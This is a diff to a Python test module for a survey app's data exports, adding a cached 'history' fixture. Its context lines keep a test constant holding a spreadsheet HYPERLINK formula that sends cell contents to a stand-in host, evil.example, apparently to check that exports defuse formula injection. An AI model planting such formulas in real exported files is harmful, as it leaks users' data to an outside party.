@@ -19,6 +19,7 @@ from survey_app.services import exports
 from survey_app.services.waves import close_wave
 from tests import factories
 from tests.factories import csrf_token, sign_in
+from tests.snapshots import built_once
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
 SMALL_CELL_COMMENT = "Only two of us work here, so you can tell who wrote this."
@@ -93,9 +94,21 @@ def make_history(factory, *, labels=("2024-Q1", "2024-Q2")):
     return rel
 
 
-#: The ``history`` fixture (``make_history`` with the test's factory). A test module takes it
+def history(factory):  # type: ignore[no-untyped-def]
+    """:func:`make_history`'s data, built the first time a run and copied afterwards when the
+    tables are empty (:mod:`tests.snapshots`: the same rows, ids and stored results, without
+    scoring its two waves again); its relationship, loaded."""
+    from survey_app.models import Relationship
+
+    relationship_id = built_once("history", lambda: make_history(factory).id)
+    rel = db.session.get(Relationship, relationship_id)
+    db.session.refresh(rel)  # loaded, so its id and name stay readable after a request
+    return rel
+
+
+#: The ``history`` fixture (:func:`history` with the test's factory). A test module takes it
 #: by importing this name; its tests then ask for ``history``.
-history_fixture = pytest.fixture(make_history, name="history")
+history_fixture = pytest.fixture(history, name="history")
 
 
 def download_bytes(table: str, fmt: str, relationship, wave: str | None = None) -> bytes:
